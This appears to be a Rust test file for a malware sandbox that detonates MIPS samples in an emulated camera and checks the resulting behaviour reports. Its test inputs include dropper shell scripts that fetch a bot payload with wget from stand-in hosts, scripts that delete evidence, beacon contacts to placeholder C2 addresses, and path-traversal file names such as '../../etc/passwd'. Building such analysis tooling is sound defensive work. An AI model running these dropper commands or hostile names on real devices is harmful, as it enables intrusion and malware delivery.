//! Detonation of the committed samples and of damaged ones.
#![allow(clippy::unwrap_used, reason = "tests")]
use otori_device::{Device, Profile, userland};
use otori_event::report::{End, FileOperation, Report};
use otori_event::{Artifact, CaptureMethod, RawText, Transport};
use otori_lab::{Outcome, Settings, detonate, submit::sha256};
use std::path::{Path, PathBuf};
use std::sync::{Arc, OnceLock};

fn sample(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../vectors/samples").join(name);
    std::fs::read(path).unwrap()
}
fn artifact(name: &str, bytes: &[u8]) -> Artifact {
    Artifact {
        sha256: sha256(bytes),
        size: bytes.len() as u64,
        name: RawText::from(name),
        mode: 0o600,
        url: None,
        method: CaptureMethod::Written,
    }
}
fn run(bytes: &[u8], name: &str, settings: &Settings) -> Outcome {
    detonate(&artifact(name, bytes), bytes, settings)
}
fn techniques(report: &Report) -> Vec<&str> {
    report.behaviours.iter().map(|row| row.technique.as_str()).collect()
}

#[test]
fn the_beacon_is_seen_to_fork_write_delete_and_call() {
    let bytes = sample("beacon.mipsel");
    let outcome = run(&bytes, "/tmp/.x/beacon", &Settings::default());
    let report = outcome.report;
    assert_eq!(report.end, End::Exited { status: 0 }, "{report:#?}");
    assert_eq!(report.output.to_lossy(), "otori sample: begin\notori sample: end\n");
    assert_eq!(report.processes.len(), 2);
    let (first, second) = (&report.processes[0], &report.processes[1]);
    assert_eq!((first.parent, second.parent), (0, first.pid));
    assert_eq!((first.status, second.status), (Some(0), Some(0)));
    assert_eq!(first.path.to_lossy(), "/tmp/beacon", "its folder is not there: the name is kept in /tmp");
    let touched = |operation| {
        let mut files = report.files.iter().filter(|file| file.operation == operation && file.succeeded);
        files.any(|file| file.path.as_bytes() == b"/tmp/otori-sample" && file.pid == second.pid)
    };
    assert!(touched(FileOperation::Written) && touched(FileOperation::Removed), "{:#?}", report.files);
    assert_eq!(report.contacts.len(), 1, "{:#?}", report.contacts);
    let contact = &report.contacts[0];
    assert_eq!(
        (contact.remote.to_string(), contact.transport),
        ("198.51.100.44:4444".into(), Transport::Tcp)
    );
    assert_eq!(contact.first_bytes.as_bytes(), b"otori-sample hello\n");
    assert!(contact.first_ns > 0 && contact.first_ns <= report.virtual_ns);
    assert_eq!(techniques(&report), ["T1095"]);
    for (call, count) in [("fork", 1), ("unlink", 1), ("connect", 1), ("exit_group", 2)] {
        assert_eq!(report.syscalls.get(call), Some(&count), "{call}: {:?}", report.syscalls);
    }
    assert!(report.unsupported.is_empty() && report.names.is_empty());
    let (dropped, content) = &outcome.dropped[0];
    assert_eq!((dropped.name.as_bytes(), dropped.mode), (&b"/tmp/otori-sample"[..], 0o600));
    assert_eq!(content, b"otori sample was here\n", "kept although it was deleted at once");
    assert_eq!(report.dropped.first(), Some(dropped));
    assert!(report.instructions > 100 && report.trace_omitted == 0);
    let lines: Vec<String> = report.trace.iter().map(|call| call.line.to_string()).collect();
    assert!(
        lines.iter().any(|line| line.starts_with("connect(3, ") && line.contains("198.51.100.44")),
        "{lines:#?}"
    );
}

#[test]
fn the_lookup_sleeps_a_minute_in_no_time_and_speaks_http_to_a_made_up_address() {
    let bytes = sample("lookup.mipsel");
    let began = std::time::Instant::now();
    let report = run(&bytes, "lookup", &Settings::default()).report;
    let took = began.elapsed();
    assert_eq!(report.end, End::Exited { status: 0 }, "{report:#?}");
    assert!(
        report.virtual_ns >= 60_000_000_000 && took.as_secs() < 20,
        "{} ns in {took:?}",
        report.virtual_ns
    );
    assert_eq!(report.names, ["cnc.otori.example"]);
    let http = report.contacts.iter().find(|contact| contact.application == "http").unwrap();
    assert_eq!(http.url.as_deref(), Some("http://cnc.otori.example:8080/orders?id=7"));
    assert_eq!(http.name.as_deref(), Some("cnc.otori.example"));
    assert!(http.bytes_in > 100 && http.first_ns >= 60_000_000_000);
    assert_eq!(report.processes[0].comm.to_lossy(), "sshd");
    assert_eq!(techniques(&report), ["T1036", "T1071.001"]);
    assert!(report.output.to_lossy().starts_with("HTTP/1.1 200 OK\r\n"));
}

#[test]
fn the_same_seed_gives_the_same_report_byte_for_byte() {
    for name in ["beacon.mipsel", "lookup.mipsel"] {
        let bytes = sample(name);
        let json = |settings: &Settings| serde_json::to_string(&run(&bytes, name, settings).report).unwrap();
        let first = json(&Settings::default());
        assert_eq!(first, json(&Settings::default()));
        assert!(first.len() > 1000);
    }
}

/// The camera with its real programs, fetched once into the build folder.
fn camera() -> Settings {
    static CAMERA: OnceLock<Arc<Device>> = OnceLock::new();
    let device = CAMERA.get_or_init(|| {
        let cache = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("userland");
        let profile = Profile::embedded("camera-mipsel").unwrap();
        let ready = userland::obtain(&cache, &profile.table.userland, &mut |text| eprintln!("{text}"))
            .unwrap_or_else(|error| panic!("{error}"));
        Arc::new(Device::prepare(profile, &ready.root).unwrap_or_else(|error| panic!("{error}")))
    });
    Settings { device: Some(device.clone()), ..Settings::default() }
}

#[test]
fn a_shell_dropper_runs_on_the_camera() {
    let script = b"#!/bin/sh\ncat /proc/cpuinfo >/dev/null\nsleep 30\necho x >/tmp/.x\nchmod 777 /tmp/.x\nrm -f /tmp/d.sh\necho done\n";
    for bytes in [&script[..], &script[10..]] {
        let outcome = run(bytes, "/tmp/d.sh", &camera());
        let report = outcome.report;
        assert_eq!(report.end, End::Exited { status: 0 }, "{:?} {:?}", report.behaviours, report.output);
        assert_eq!(report.output.to_lossy(), "done\n");
        assert!(report.virtual_ns >= 30_000_000_000);
        for technique in ["T1059.004", "T1070.004", "T1082"] {
            assert!(techniques(&report).contains(&technique), "{technique}: {:#?}", report.behaviours);
        }
        let (dropped, content) = &outcome.dropped[0];
        assert_eq!((dropped.name.as_bytes(), content.as_slice()), (&b"/tmp/.x"[..], &b"x\n"[..]));
        assert!(report.unsupported.is_empty(), "{:?}", report.unsupported);
    }
}

#[test]
fn a_dropper_that_fetches_is_followed_into_the_fake_internet() {
    let script =
        b"#!/bin/sh\ncd /tmp\nwget http://dl.otori.example/bot.mipsel -O bot || echo failed\nls -l bot\n";
    let outcome = run(script, "/tmp/d.sh", &camera());
    let report = outcome.report;
    assert_eq!(report.end, End::Exited { status: 0 }, "{:?}", report.output);
    assert_eq!(report.names.first().map(String::as_str), Some("dl.otori.example"), "{:?}", report.output);
    let http = report.contacts.iter().find(|contact| contact.application == "http").unwrap();
    assert_eq!(http.url.as_deref(), Some("http://dl.otori.example/bot.mipsel"));
    assert!(techniques(&report).contains(&"T1105"), "{:#?}", report.behaviours);
    let fetched = outcome.dropped.iter().find(|(artifact, _)| artifact.name.as_bytes() == b"/tmp/bot");
    assert!(fetched.is_some_and(|(_, bytes)| bytes.starts_with(b"<html>")), "{:?}", report.output);
}

#[test]
fn a_program_runs_on_the_camera_as_on_the_plain_device() {
    let bytes = sample("beacon.mipsel");
    let report = run(&bytes, "/tmp/beacon", &camera()).report;
    assert_eq!(report.end, End::Exited { status: 0 });
    assert_eq!(report.output.to_lossy(), "otori sample: begin\notori sample: end\n");
    let again = run(&bytes, "/tmp/beacon", &camera()).report;
    assert_eq!(serde_json::to_string(&report).unwrap(), serde_json::to_string(&again).unwrap());
}

#[test]
fn time_and_instructions_are_bounded() {
    let bytes = sample("lookup.mipsel");
    let short = Settings { virtual_seconds: 5, ..Settings::default() };
    let report = run(&bytes, "x", &short).report;
    assert_eq!((report.end, report.virtual_ns), (End::TimeUp, 5_000_000_000));
    // `b .` at the entry: jumps to itself for ever
    let mut endless = sample("beacon.mipsel");
    endless[0xf0..0xf8].copy_from_slice(&[0xff, 0xff, 0, 0x10, 0, 0, 0, 0]);
    let few = Settings { instructions: 2_000_000, ..Settings::default() };
    let report = run(&endless, "x", &few).report;
    assert_eq!(report.end, End::Limit { limit: "instructions".into() });
    assert!(report.instructions < 3_000_000);
}

#[test]
fn what_cannot_run_says_why() {
    let whole = sample("beacon.mipsel");
    for (bytes, reason) in [
        (whole[..700].to_vec(), "truncated: 700 of "),
        (b"#!/bin/sh\nwget http://192.0.2.1/x\n".to_vec(), "a shell script needs a device"),
        (b"hello\n".to_vec(), "not runnable: format text"),
        (vec![], "not runnable: format empty"),
    ] {
        match run(&bytes, "x", &Settings::default()).report.end {
            End::NotRun { reason: found } => assert!(found.starts_with(reason), "{found}"),
            other => panic!("{other:?}"),
        }
    }
}

#[test]
fn hostile_names_do_not_leave_the_guest_or_fail() {
    let bytes = sample("beacon.mipsel");
    for name in [
        "",
        "/",
        "../../etc/passwd",
        "/etc/../../x",
        "/proc/self/mem",
        "a\0b",
        "/tmp/\u{202e}x",
        &"n".repeat(5000),
    ] {
        let report = run(&bytes, name, &Settings::default()).report;
        assert_eq!(report.end, End::Exited { status: 0 }, "{name:?}");
    }
}

#[test]
fn damaged_samples_never_panic_and_stay_within_bounds() {
    let mut state = 0x6f74_6f72_695f_6c61u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let settings = Settings { instructions: 300_000, virtual_seconds: 30, ..Settings::default() };
    let mut started = 0;
    for round in 0..300 {
        let mut bytes = sample(if round % 2 == 0 { "beacon.mipsel" } else { "lookup.mipsel" });
        for _ in 0..1 + next() % 16 {
            let at = next() as usize % bytes.len();
            bytes[at] = next() as u8;
        }
        if round % 7 == 0 {
            bytes.truncate(next() as usize % bytes.len());
        }
        let outcome = run(&bytes, "x", &settings);
        started += usize::from(!matches!(outcome.report.end, End::NotRun { .. }));
        assert!(outcome.report.virtual_ns <= 31_000_000_000, "{}", outcome.report.virtual_ns);
        assert_eq!(outcome.report.dropped.len(), outcome.dropped.len());
    }
    assert!(started > 100, "{started} of 300 started");
}
